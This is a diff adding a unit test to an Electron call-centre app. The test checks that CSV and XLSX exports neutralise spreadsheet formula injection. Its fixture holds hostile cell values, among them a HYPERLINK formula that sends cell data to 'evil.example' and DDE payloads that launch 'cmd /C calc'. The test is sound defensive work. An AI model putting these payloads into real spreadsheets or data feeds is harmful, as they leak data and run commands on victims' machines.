@@ -6,7 +6,7 @@ import type { CallRecord, CallSearchFilter } from '../../../electron/core/contra
 import { queueReport } from '../../../electron/core/store/queue-reports';
 import { createCallStore } from '../../../electron/core/store/call-store';
 import type { Db } from '../../../electron/core/store/database';
-import { exportCalls, exportReport } from '../../../electron/core/store/export';
+import { exportCalls, exportReport, writeTable } from '../../../electron/core/store/export';
 import { generateCallRecord, generateCalls } from '../../../electron/core/store/generate';
 import { parseCsvRecord } from '../../../electron/core/store/import';
 import { tempDatabase } from './support/temp-db';
@@ -82,4 +82,51 @@ describe('export', () => {
     expect(sheet.getRow(2).getCell(3).value).toBe(report.rows[0]!.offered);
     expect(sheet.getRow(2).getCell(4).value).toBe(report.rows[0]!.answered);
   });
+
+  it('neutralises formula cells in CSV and writes text cells as text in XLSX; numbers stay numbers', async () => {
+    const hostileTemp = tempDatabase();
+    try {
+      const hostileDb = hostileTemp.open();
+      const at = Date.parse('2026-11-25T02:00:00Z');
+      const hostile: CallRecord = {
+        ...generateCallRecord(options, 0), uniqueid: 'formula.1', startedAt: at, endedAt: at + 60_000, answeredAt: undefined,
+        callerNum: '=HYPERLINK("http://evil.example/?x="&A1,"call back")', calledNum: '+cmd|\' /C calc\'!A0', agent: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        queue: '-2+3+cmd|\' /C calc\'!A0', ivrDtmf: '\t=1+1', hangupCause: '\r=1+1', disposition: 'ANSWERED', talkSeconds: 42,
+      };
+      createCallStore(hostileDb).upsertCalls([hostile]);
+      const columns = ['uniqueid', 'callerNum', 'calledNum', 'agent', 'queue', 'ivrDtmf', 'hangupCause', 'disposition', 'talkSeconds', 'score'];
+      const csv = join(hostileTemp.dir, 'hostile.csv');
+      await exportCalls(hostileDb, 'Asia/Shanghai', {}, undefined, { file: csv, format: 'csv', columns });
+      const [, row] = readFileSync(csv, 'utf8').slice(1).split('\r\n').map(parseCsvRecord);
+      expect(row).toEqual([
+        'formula.1', `'${hostile.callerNum}`, `'${hostile.calledNum}`, `'${hostile.agent}`, `'${hostile.queue}`, `'${hostile.ivrDtmf}`, `'${hostile.hangupCause}`, 'ANSWERED', '42', hostile.score === undefined ? '' : String(hostile.score),
+      ]);
+      // A plain negative number in a numeric column stays a number.
+      const report = join(hostileTemp.dir, 'negative.csv');
+      await writeTable([{ delta: -5, label: '-5' }], [{ key: 'delta', value: (r) => r.delta }, { key: 'label', value: (r) => r.label }], { file: report, format: 'csv' });
+      expect(readFileSync(report, 'utf8').slice(1).split('\r\n')[1]).toBe("-5,'-5");
+
+      const xlsx = join(hostileTemp.dir, 'hostile.xlsx');
+      await exportCalls(hostileDb, 'Asia/Shanghai', {}, undefined, { file: xlsx, format: 'xlsx', columns });
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.readFile(xlsx);
+      const cells = workbook.worksheets[0]!.getRow(2);
+      for (const [index, key] of columns.entries()) {
+        const cell = cells.getCell(index + 1);
+        if (key === 'talkSeconds') {
+          expect(cell.type, key).toBe(ExcelJS.ValueType.Number);
+          expect(cell.value).toBe(42);
+        } else if (key !== 'score') {
+          expect(cell.type, key).toBe(ExcelJS.ValueType.String);
+          expect(cell.numFmt, key).toBe('@');
+          expect(cell.formula, key).toBeUndefined();
+          // XML reads a carriage return back as a line feed.
+          expect(cell.value, key).toBe(String(hostile[key as keyof CallRecord]).replaceAll('\r', '\n'));
+        }
+      }
+    } finally {
+      hostileTemp.cleanup();
+    }
+  });
 });
+
